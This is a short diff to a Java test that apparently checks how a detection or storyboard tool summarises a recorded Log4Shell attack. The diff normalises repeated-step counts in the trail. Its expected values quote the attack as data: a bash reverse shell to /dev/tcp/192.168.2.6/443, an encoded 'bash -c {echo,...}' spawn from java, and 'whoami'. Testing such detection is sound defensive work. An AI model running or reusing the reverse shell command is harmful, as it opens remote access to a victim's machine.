@@ -87,7 +87,10 @@ class OtrfLog4ShellTest {
     }
 
     private static void assertTrail(JsonNode storyboard) {
-        List<String> trail = storyboard.path("trail").findValuesAsText("text");
+        // A step seen more than once says so ("whoami (2 times)"); compare without the count.
+        List<String> trail = storyboard.path("trail").findValuesAsText("text").stream()
+                .map(text -> text.replaceFirst(" \\(\\d+ times\\)$", ""))
+                .toList();
         assertThat(trail.getFirst()).startsWith("java (serving requests) spawns bash -c {echo,YmFz");
         assertThat(trail).contains("bash starts a reverse shell: bash -i >& /dev/tcp/192.168.2.6/443 0>&1", "whoami");
         List<String> techniques = new ArrayList<>();
